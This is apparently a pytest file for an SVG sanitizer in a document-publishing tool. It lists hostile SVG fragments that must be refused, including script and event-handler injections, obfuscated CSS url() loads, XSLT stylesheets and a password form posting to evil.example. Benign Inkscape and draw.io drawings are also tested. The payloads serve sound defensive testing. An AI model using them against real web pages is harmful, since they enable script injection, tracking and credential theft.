"""A drawing beside a page holds shapes and text; whatever loads, runs, links or sends refuses it."""

from __future__ import annotations

import re
from datetime import date
from xml.etree import ElementTree

import pytest
from publish import sample_manual as sample

from plainqms.publish.attached_drawings import NotPlainError, rewritten
from plainqms.publish.attachments import attachments

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:e="http://editor.example/"'
)
HARMFUL = (
    '<h:img src="http://evil.example/a.png"/>',
    '<h:meta http-equiv="refresh" content="0;url=http://evil.example"/>',
    '<h:form action="http://evil.example"><h:input name="password"/></h:form>',
    '<img xmlns="" src="http://evil.example/a.png"/>',
    '<transform xmlns="http://www.w3.org/1999/XSL/Transform"/>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"/>',
    r'<style>@\69mport "http://evil.example/a.css"</style>',
    '<style><b/>@import "http://evil.example/a.css";</style>',
    "<style>rect{fill:red}</style>",
    "<?xml-stylesheet href='http://evil.example/a.css'?>",
    "<script/>",
    "<g><SCRIPT/></g>",
    "<foreignObject/>",
    "<a href='#x'/>",
    '<image href="data:image/png;base64,AA"/>',
    '<feImage href="http://evil.example/a.png"/>',
    "<animate attributeName='href' values='javascript:a()'/>",
    "<set attributeName='onload' to='a()'/>",
    "<unheardOf/>",
    '<use xlink:href="http://evil.example/a.svg#b"/>',
    '<use href="data:image/svg+xml,x#b"/>',
    '<use href="//evil.example/#b"/>',
    '<rect e:href="http://evil.example"/>',
    '<rect src="a.png"/>',
    '<rect onclick="a()"/>',
    '<rect e:onclick="a()"/>',
    """<rect style='background:image-set("http://evil.example/a" 1x)'/>""",
    """<rect style='background:-webkit-image-set("http://evil.example/a" 1x)'/>""",
    """<rect style='fill:src("http://evil.example/a")'/>""",
    """<rect style='cursor:image("http://evil.example/a")'/>""",
    '<rect style="fill:url(http://evil.example/a#b)"/>',
    '<rect style="fill:URL( //evil.example/a )"/>',
    '<rect style="fill:url(#a)url(b)"/>',
    r'<rect style="fill:u\72l(http://evil.example)"/>',
    '<rect style="fill:u/**/rl(http://evil.example)"/>',
    '<rect style="fill:&#117;rl(http://evil.example)"/>',
    '<rect style="width:expression(a())"/>',
    "<rect style='@import \"a.css\"'/>",
    '<rect fill="url(http://evil.example/a#b)"/>',
    r'<rect filter="u\72l(a)"/>',
    "<g>" * 300 + "</g>" * 300,
)


@pytest.mark.parametrize("inside", HARMFUL, ids=range(len(HARMFUL)))
def test_what_could_do_harm_is_refused(inside: str) -> None:
    with pytest.raises(NotPlainError):
        rewritten(f"{HEAD}>{inside}</svg>".encode())


AROUND = (
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>{HEAD}/>',
    f"{HEAD}/><?xml-stylesheet href='a.css'?>",
    f"<!DOCTYPE svg>{HEAD}/>",
    f"<!DOCTYPE svg [<!ENTITY a 'b'>]>{HEAD}/>",
    '<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "<svg/>",
    '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
    f"{HEAD}>",
    "",
)


@pytest.mark.parametrize("text", AROUND, ids=range(len(AROUND)))
def test_what_stands_around_a_drawing_is_judged_too(text: str) -> None:
    with pytest.raises(NotPlainError):
        rewritten(text.encode())
    with pytest.raises(NotPlainError):
        rewritten(text.encode("utf-16"))


def test_a_refused_drawing_is_a_problem_of_the_document() -> None:
    item = sample.simple(
        "PRO-004", "T", "a/b.md", "T\n", issued=date(2026, 1, 1), embedded=(("a/p.svg", "p"),)
    )
    data = f"{HEAD}><h:form/></svg>".encode()
    kept, found = attachments(item, lambda _: data)
    assert (kept, [(problem.rule.code, problem.place.path) for problem in found]) == (
        {},
        [("S463", "a/b.md")],
    )


INKSCAPE = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5" sodipodi:docname="a.svg"
   xml:space="preserve" inkscape:export-filename="C:\\secret\\a.png"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff"><inkscape:grid type="xygrid"/></sodipodi:namedview>
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:li/></rdf:RDF></metadata>
  <defs id="defs2"><linearGradient id="g1" inkscape:collect="always"><stop style="stop-color:#000" offset="0"/>
    </linearGradient><linearGradient xlink:href="#g1" id="g2" gradientTransform="matrix(1,0,0,1,2,3)"/>
    <inkscape:path-effect effect="spiro" id="e1"/></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" transform="translate(1.5 2)">
    <path style="fill:url(#g2);stroke:rgb(0, 0, 0);-inkscape-stroke:none" d="M 1,2 C 3,4 5,6 7,8 Z"
       inkscape:connector-curvature="0" sodipodi:nodetypes="cc"/>
    <text style="font-size:5px;font-family:'DejaVu Sans';shape-inside:url(#r)"
       ><tspan x="1">a &lt; b &amp; c</tspan> d</text>
  </g>
</svg>
"""


def test_a_drawing_of_an_editor_keeps_its_shapes_and_loses_its_notes() -> None:
    made = rewritten(INKSCAPE)
    assert not re.search(rb"inkscape:|sodipodi|secret|rdf|<!--|<\?|metadata|path-effect", made)
    root = ElementTree.fromstring(made)
    assert [element.tag.rpartition("}")[2] for element in root.iter()] == [
        "svg", "defs", "linearGradient", "stop", "linearGradient", "g", "path", "text", "tspan",
    ]  # fmt: skip
    assert "".join(root.itertext()) == "a < b & c d"
    assert root.find(".//*[@id='g2']").get("{http://www.w3.org/1999/xlink}href") == "#g1"  # type: ignore[union-attr]
    assert root.find(".//*[@d]").attrib == {  # type: ignore[union-attr]
        "style": "fill:url(#g2);stroke:rgb(0, 0, 0);-inkscape-stroke:none",
        "d": "M 1,2 C 3,4 5,6 7,8 Z",
    }


def test_a_drawing_of_draw_io_without_html_labels_passes() -> None:
    made = rewritten(
        b'<svg xmlns="http://www.w3.org/2000/svg" style="background: light-dark(#fff, #121212)" width="121px" '
        b'viewBox="-0.5 -0.5 121 61" content="&lt;mxfile host=&quot;x&quot;/&gt;"><defs/><g><g data-cell-id="0">'
        b'<rect x="0" y="0" width="120" height="60" fill="#ffffff" pointer-events="all"/></g></g></svg>'
    )
    assert b"mxfile" not in made
    assert b'<rect x="0" y="0" width="120" height="60" fill="#ffffff"></rect>' in made


def test_writing_it_again_changes_nothing_and_nothing_ends_an_attribute() -> None:
    made = rewritten(
        f"""{HEAD}><title>&lt;script&gt;</title><g id='a"&gt;&lt;b' class="&amp;quot;"/></svg>""".encode()
    )
    assert rewritten(made) == made
    assert b"<script" not in made
    assert b'id="a&quot;&gt;&lt;b" class="&amp;quot;"' in made


def test_a_picture_that_is_no_drawing_stays_as_it_is() -> None:
    item = sample.simple(
        "PRO-004", "T", "a/b.md", "T\n", issued=date(2026, 1, 1), embedded=(("a/p.png", "png"),)
    )
    kept, found = attachments(item, sample.read)
    assert (kept["a/p.png"].data, found) == (sample.PNG, ())
